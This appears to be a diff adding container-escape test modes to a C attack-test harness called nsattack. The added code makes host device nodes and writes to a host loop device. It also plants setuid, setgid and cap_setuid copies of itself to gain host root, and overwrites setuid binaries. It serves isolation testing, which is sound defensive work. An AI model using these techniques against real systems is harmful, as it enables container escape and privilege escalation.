@@ -27,6 +27,7 @@
 #include <sys/types.h>
 #include <sys/un.h>
 #include <sys/wait.h>
+#include <sys/xattr.h>
 #include <netinet/in.h>
 #include <arpa/inet.h>
 #include <termios.h>
@@ -639,6 +640,142 @@ static void do_status_like(int pid) {
         else blocked(what, "the same");
     }
 }
+/* devices */
+/* devnode MAJ MIN MARKER DIR...: in each DIR, make the block node MAJ:MIN (a loop device the
+ * test attached to a host file) and write MARKER at its start, then make and open the nodes of
+ * host character devices (fuse, loop-control, kvm, tty1). A node that opens is a way to the
+ * host's device: without a device cgroup only `nodev` mounts stop it. */
+static void do_devnode(unsigned maj, unsigned min, const char *marker, int argc, char **argv) {
+    static const struct { const char *name; unsigned maj, min; } chars[] = {
+        {"fuse", 10, 229}, {"loop-control", 10, 237}, {"kvm", 10, 232}, {"tty1", 4, 1},
+    };
+    for (int i = 0; i < argc; i++) {
+        char node[300], what[400];
+        snprintf(node, sizeof node, "%s/nsattack-blk-%d", strcmp(argv[i], "/") ? argv[i] : "", getpid());
+        snprintf(what, sizeof what, "mknod %s b %u:%u", node, maj, min);
+        if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) != 0) { blocked_errno(what); }
+        else {
+            printf("INFO %s succeeded\n", what);
+            snprintf(what, sizeof what, "write the host's loop device through %s", node);
+            int fd = open(node, O_RDWR | O_CLOEXEC);
+            if (fd < 0) blocked_errno(what);
+            else {
+                size_t len = strlen(marker);
+                if (pwrite(fd, marker, len, 0) == (ssize_t)len && fsync(fd) == 0) escape(what, "the block device is writable");
+                else blocked_errno(what);
+                close(fd);
+            }
+            unlink(node);
+        }
+        for (unsigned c = 0; c < sizeof chars / sizeof *chars; c++) {
+            snprintf(node, sizeof node, "%s/nsattack-%s-%d", strcmp(argv[i], "/") ? argv[i] : "", chars[c].name, getpid());
+            snprintf(what, sizeof what, "mknod %s c %u:%u", node, chars[c].maj, chars[c].min);
+            if (mknod(node, S_IFCHR | 0600, makedev(chars[c].maj, chars[c].min)) != 0) { blocked_errno(what); continue; }
+            printf("INFO %s succeeded\n", what);
+            snprintf(what, sizeof what, "open the host's %s through %s", chars[c].name, node);
+            int fd = open(node, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
+            if (fd >= 0) { escape(what, "the character device opened"); close(fd); }
+            else blocked_errno(what);
+            unlink(node);
+        }
+    }
+}
+/* end devices */
+
+/* setuid */
+/* plant DIR MAJ MIN: as the container's root, make in DIR the ways to root a host user could
+ * run through the host's path: copies of this program made setuid root (chmod, open with the
+ * mode, fchmod), setgid root, with a file capability (cap_setuid), and the block node
+ * MAJ:MIN open to all. Prints INFO for what was made, BLOCKED for what was refused; the test
+ * judges from the host, as another user. */
+static int copy_self(const char *dst, mode_t mode) {
+    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+    if (in < 0) return -1;
+    int out = open(dst, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
+    if (out < 0) { int e = errno; close(in); errno = e; return -1; }
+    char buf[65536];
+    ssize_t n;
+    while ((n = read(in, buf, sizeof buf)) > 0)
+        if (write(out, buf, n) != n) { int e = errno; close(in); close(out); errno = e; return -1; }
+    close(in);
+    return out;
+}
+
+static void planted(const char *what, const char *path, int rc) {
+    char line[400];
+    snprintf(line, sizeof line, "%s %s", what, path);
+    if (rc == 0) {
+        struct stat st;
+        if (stat(path, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID)) == 0 && strstr(what, "cap") == NULL && strstr(what, "node") == NULL)
+            printf("BLOCKED %s: the mode bits were cleared (mode %o)\n", line, st.st_mode & 07777);
+        else printf("INFO planted %s\n", line);
+    } else blocked_errno(line);
+}
+
+static void do_plant(const char *dir, unsigned maj, unsigned min) {
+    char path[300];
+    int fd, rc;
+    snprintf(path, sizeof path, "%s/p-chmod", dir);
+    fd = copy_self(path, 0755);
+    rc = fd < 0 ? -1 : (close(fd), chmod(path, 04755));
+    planted("setuid root by chmod", path, rc);
+    snprintf(path, sizeof path, "%s/p-fchmod", dir);
+    fd = copy_self(path, 0755);
+    rc = fd < 0 ? -1 : fchmod(fd, 04755);
+    if (fd >= 0) close(fd);
+    planted("setuid root by fchmod", path, rc);
+    snprintf(path, sizeof path, "%s/p-open", dir);
+    fd = copy_self(path, 04755);
+    rc = fd < 0 ? -1 : 0;
+    if (fd >= 0) close(fd);
+    planted("setuid root by open with the mode", path, rc);
+    snprintf(path, sizeof path, "%s/p-sgid", dir);
+    fd = copy_self(path, 0755);
+    rc = fd < 0 ? -1 : (close(fd), chmod(path, 02755));
+    planted("setgid root by chmod", path, rc);
+    snprintf(path, sizeof path, "%s/p-fcap", dir);
+    fd = copy_self(path, 0755);
+    if (fd >= 0) close(fd);
+    /* vfs_cap_data revision 2, effective, permitted = CAP_SETUID (7). */
+    unsigned int cap[5] = {0x02000001, 1u << 7, 0, 0, 0};
+    rc = fd < 0 ? -1 : setxattr(path, "security.capability", cap, sizeof cap, 0);
+    planted("file capability cap_setuid", path, rc);
+    snprintf(path, sizeof path, "%s/p-node", dir);
+    rc = mknod(path, S_IFBLK | 0666, makedev(maj, min));
+    if (rc == 0) chmod(path, 0666);
+    planted("block node open to all", path, rc);
+}
+
+/* overwrite PATH: replace the contents of an existing setuid-root file (the image's) with
+ * this program; the kernel clears the bits unless the writer has CAP_FSETID. */
+static void do_overwrite(const char *path) {
+    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), out = open(path, O_WRONLY | O_CLOEXEC);
+    char buf[65536];
+    ssize_t n;
+    int rc = in < 0 || out < 0 ? -1 : 0;
+    while (rc == 0 && (n = read(in, buf, sizeof buf)) > 0)
+        if (write(out, buf, n) != n) rc = -1;
+    if (in >= 0) close(in);
+    if (out >= 0) close(out);
+    planted("setuid root by overwriting", path, rc);
+}
+
+/* euid: what this process is once exec'd (a file capability lets it setuid(0)). */
+static void do_euid(void) {
+    if (setuid(0) != 0) { /* expected for an unprivileged run */ }
+    printf("euid=%d egid=%d\n", (int)geteuid(), (int)getegid());
+}
+
+/* devwrite PATH MARKER: write MARKER at the start of the device node PATH. */
+static void do_devwrite(const char *path, const char *marker) {
+    int fd = open(path, O_RDWR | O_CLOEXEC);
+    if (fd < 0) { blocked_errno(path); return; }
+    size_t len = strlen(marker);
+    if (pwrite(fd, marker, len, 0) == (ssize_t)len && fsync(fd) == 0) escape(path, "the device is writable");
+    else blocked_errno(path);
+    close(fd);
+}
+/* end setuid */
 
 /* network: attacks on the other containers of a bridge, from a packet socket (CAP_NET_RAW). */
 #include <linux/if_packet.h>
@@ -903,6 +1040,13 @@ int main(int argc, char **argv) {
     else if (!strcmp(m, "root-watch") && argc == 6) do_root_watch(atoi(argv[2]), argv[3], argv[4], argv[5]);
     else if (!strcmp(m, "status-like") && argc == 3) do_status_like(atoi(argv[2]));
     /* end join */
+    /* setuid */
+    else if (!strcmp(m, "plant") && argc == 5) do_plant(argv[2], atoi(argv[3]), atoi(argv[4]));
+    else if (!strcmp(m, "overwrite") && argc == 3) do_overwrite(argv[2]);
+    else if (!strcmp(m, "euid")) do_euid();
+    else if (!strcmp(m, "devwrite") && argc == 4) do_devwrite(argv[2], argv[3]);
+    /* devices */
+    else if (!strcmp(m, "devnode") && argc >= 6) do_devnode(atoi(argv[2]), atoi(argv[3]), argv[4], argc - 5, argv + 5);
     else { fprintf(stderr, "nsattack: unknown mode %s\n", m); return 2; }
     fflush(stdout);
     return escaped ? 1 : 0;
